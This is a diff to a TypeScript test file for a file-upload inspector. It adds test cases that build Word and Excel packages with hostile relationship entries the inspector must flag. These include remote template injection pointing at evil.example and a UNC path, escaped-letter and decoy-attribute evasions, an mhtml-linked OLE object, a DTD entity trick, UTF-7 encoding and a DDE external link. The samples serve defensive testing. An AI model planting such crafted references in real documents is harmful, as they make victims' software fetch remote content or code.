@@ -44,6 +44,17 @@ function wordWith(...parts: string[]): Uint8Array {
   return zipOf(Object.fromEntries(names.map((name) => [name, ''])))
 }
 
+const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+
+/** A Word file whose settings refer to something; `attributes` as the file writes them. */
+function wordReferring(attributes: string): Uint8Array {
+  return wordWithRelationships(`<Relationships><Relationship Id="rId1" ${attributes}/></Relationships>`)
+}
+
+function wordWithRelationships(xml: string): Uint8Array {
+  return zipOf({ '[Content_Types].xml': '', 'word/document.xml': '', 'word/_rels/settings.xml.rels': xml })
+}
+
 const bad: [string, string, Uint8Array, string][] = [
   ['an empty file', 'a.pdf', new Uint8Array(), 'file.empty'],
   ['a file over the limit', 'a.pdf', new Uint8Array(1024 * 1024 + 1), 'file.too_large'],
@@ -91,6 +102,50 @@ const bad: [string, string, Uint8Array, string][] = [
   ['a Word file with macros in capitals', 'a.docx', wordWith('word/vbaProject.BIN'), 'file.program_inside'],
   ['a Word file with a control', 'a.docx', wordWith('word/activeX/activeX1.xml'), 'file.hidden_content'],
   ['a Word file with an embedded file', 'a.docx', wordWith('word/embeddings/oleObject1.bin'), 'file.hidden_content'],
+  [
+    'a Word file with a template elsewhere',
+    'a.docx',
+    wordReferring(`Type="${office}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"`),
+    'file.external_content',
+  ],
+  [
+    'a Word file with a template elsewhere in escaped letters',
+    'a.docx',
+    wordReferring(`Type='${office}/attachedTemplate' Target='\\\\evil\\a' TargetMode = '&#69;x&#x74;ernal'`),
+    'file.external_content',
+  ],
+  [
+    'a Word file with a template elsewhere beside a decoy',
+    'a.docx',
+    wordReferring(
+      `Type="${office}/attachedTemplate" TargetMode="External" targetmode="Internal" x:TargetMode="Internal"`,
+    ),
+    'file.external_content',
+  ],
+  [
+    'a Word file with a linked object',
+    'a.docx',
+    wordReferring(`TargetMode="External" Target="mhtml:http://evil.example/x" Type="${office}/oleObject"`),
+    'file.external_content',
+  ],
+  [
+    'a Word file with a relationship that an entity could make anything',
+    'a.docx',
+    wordWithRelationships('<!DOCTYPE a [<!ENTITY e "External">]><Relationships/>'),
+    'file.damaged',
+  ],
+  [
+    'a Word file with a relationship in a foreign encoding',
+    'a.docx',
+    wordWithRelationships('<?xml version="1.0" encoding="UTF-7"?><Relationships/>'),
+    'file.damaged',
+  ],
+  [
+    'an Excel file with a link to another program',
+    'a.xlsx',
+    zipOf({ '[Content_Types].xml': '', 'xl/workbook.xml': '', 'xl/externalLinks/externalLink1.xml': '<ddeLink/>' }),
+    'file.external_content',
+  ],
   ['a Word file with a foreign part', 'a.docx', wordWith('word/macros.bin'), 'file.hidden_content'],
   ['an archive behind a picture', 'a.png', joined(sampleFile('png'), zipOf({ 'x.txt': 'x' })), 'file.hidden_content'],
   ['an archive behind a PDF', 'a.pdf', joined(sampleFile('pdf'), zipOf({ 'x.txt': 'x' })), 'file.hidden_content'],
@@ -117,6 +172,8 @@ test.each([
     zipOf({ '[Content_Types].xml': '', 'xl/workbook.xml': '', 'xl/printerSettings/printerSettings1.bin': '' }),
   ],
   ['a.zip', zipOf({ 'form.pdf': 'x', 'folder/notice.docx': 'x' })],
+  ['a.docx', wordReferring(`Type="${office}/hyperlink" Target="https://mowss.gov.np" TargetMode="External"`)],
+  ['a.docx', wordReferring(`Type="${office}/image" Target="media/image1.png"`)],
 ])('harmless parts of %s are accepted', async (filename, bytes) => {
   expect(await inspect(filename, bytes)).toMatchObject({ ok: true })
 })
